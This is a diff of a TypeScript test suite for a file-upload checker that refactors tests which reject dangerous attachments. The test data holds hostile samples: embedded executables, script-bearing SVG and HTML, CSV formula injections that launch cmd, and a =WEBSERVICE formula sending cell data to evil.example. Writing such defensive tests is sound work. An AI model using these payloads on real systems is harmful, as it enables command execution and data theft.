@@ -1,13 +1,9 @@
 import { buffer } from 'node:stream/consumers';
 import { PDFDocument, PDFName } from '@cantoo/pdf-lib';
 import sharp from 'sharp';
-import { describe, expect, it, vi } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { ZipFile } from 'yazl';
-import type { Executor } from '../database';
-import { keepAttachment } from './content';
-import type { StoredFiles } from './stored-files.repository';
-
-const executor = {} as Executor;
+import { checkAttachment } from './content';
 
 /** A zip as office programs write it. */
 async function zipOf(parts: Record<string, string>): Promise<Buffer> {
@@ -45,21 +41,6 @@ const withAction = (action: Record<string, string>) =>
   );
 const packing = (name: string) => pdfWith((document) => document.attach(Buffer.from('MZ'), name));
 
-function keeping() {
-  const keep = vi.fn<StoredFiles['keepUpload']>(async (_tx, bytes) => ({
-    fileId: 1,
-    sha256: 'hash',
-    sizeBytes: bytes.length,
-  }));
-  const files: StoredFiles = {
-    keep: () => Promise.reject(new Error('not our own')),
-    keepUpload: keep,
-    read: () => Promise.reject(new Error('not read')),
-    readByHash: () => Promise.reject(new Error('not read')),
-  };
-  return { files, keep };
-}
-
 const ole = (...names: string[]) =>
   Buffer.concat([
     Buffer.from('d0cf11e0a1b11ae1', 'hex'),
@@ -72,12 +53,9 @@ const program = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]);
 const svg = Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script/></svg>');
 const page = Buffer.from('<!doctype html><script>alert(1)</script>');
 const picture = () => sharp({ create: { width: 20, height: 10, channels: 3, background: 'blue' } });
-const keepFile = (fileName: string, bytes: Uint8Array, { files, keep } = keeping()) => ({
-  kept: keepAttachment(files, executor, { fileName, bytes }, 7),
-  keep,
-});
+const check = (fileName: string, bytes: Uint8Array) => checkAttachment({ fileName, bytes }, 7);
 
-describe('keepAttachment', async () => {
+describe('checkAttachment', async () => {
   // OFF-49
   it.each([
     ['offer.pdf', 'application/pdf', pdf],
@@ -93,9 +71,9 @@ describe('keepAttachment', async () => {
     ['a.csv', 'text/csv; charset=utf-8', Buffer.from('\uFEFFa;b\r\n1;2\r\n')],
     ['one-column.csv', 'text/csv; charset=utf-8', Buffer.from('पाइप\n')],
   ])('keeps %s as %s, as it is', async (name, contentType, bytes) => {
-    const { kept, keep } = keepFile(name, bytes);
-    expect(await kept).toMatchObject({ contentType, sizeBytes: bytes.length });
-    expect(keep.mock.calls[0]?.[1]).toBe(bytes);
+    const checked = await check(name, bytes);
+    expect(checked).toMatchObject({ fileName: name, contentType, pixels: null });
+    expect(checked.bytes).toBe(bytes);
   });
 
   it('keeps images', async () => {
@@ -106,7 +84,7 @@ describe('keepAttachment', async () => {
       ['a.webp', 'image/webp', await picture().webp().toBuffer()],
     ];
     for (const [name, contentType, bytes] of images)
-      expect(await keepFile(name, bytes).kept).toMatchObject({ contentType });
+      expect(await check(name, bytes)).toMatchObject({ contentType });
   });
 
   // OFF-50
@@ -162,17 +140,14 @@ describe('keepAttachment', async () => {
     ['the same in quotes and full width', 'a.csv', Buffer.from(`a\n"＋cmd|' /C calc'!A0"\n`)],
     ['a table that fetches', 'a.csv', Buffer.from('=WEBSERVICE("https://evil.example/?"&A1)\n')],
   ])('refuses %s', async (_what, name, bytes) => {
-    const { kept, keep } = keepFile(name, bytes);
-    await expect(kept).rejects.toMatchObject({
+    await expect(check(name, bytes)).rejects.toMatchObject({
       code: 'document_refused',
       text: 'Please attach a PDF, an image (PNG, JPEG, WebP) or a spreadsheet (XLSX, XLS, ODS, CSV).',
     });
-    expect(keep).not.toHaveBeenCalled();
   });
 
   it('refuses a picture of another kind than its name says', async () => {
-    const { kept } = keepFile('a.png', await picture().jpeg().toBuffer());
-    await expect(kept).rejects.toMatchObject({
+    await expect(check('a.png', await picture().jpeg().toBuffer())).rejects.toMatchObject({
       fields: [{ field: 'file', text: 'The content of this file is not what its name says.' }],
     });
   });
@@ -183,12 +158,10 @@ describe('keepAttachment', async () => {
       .jpeg()
       .toBuffer();
     expect(bytes.includes('home address')).toBe(true);
-    const { kept, keep } = keepFile(
-      'a.jpg',
-      Buffer.concat([bytes, Buffer.from('<script>alert(1)</script>')]),
-    );
-    await kept;
-    const stored = Buffer.from(keep.mock.calls[0]![1]);
+    const behind = Buffer.from('<script>alert(1)</script>');
+    const checked = await check('a.jpg', Buffer.concat([bytes, behind]));
+    expect(checked.pixels).toEqual({ width: 20, height: 10 });
+    const stored = Buffer.from(checked.bytes);
     expect(stored.includes('home address')).toBe(false);
     expect(stored.includes('<script>')).toBe(false);
     expect(await sharp(stored).metadata()).toMatchObject({ format: 'jpeg', width: 20, height: 10 });
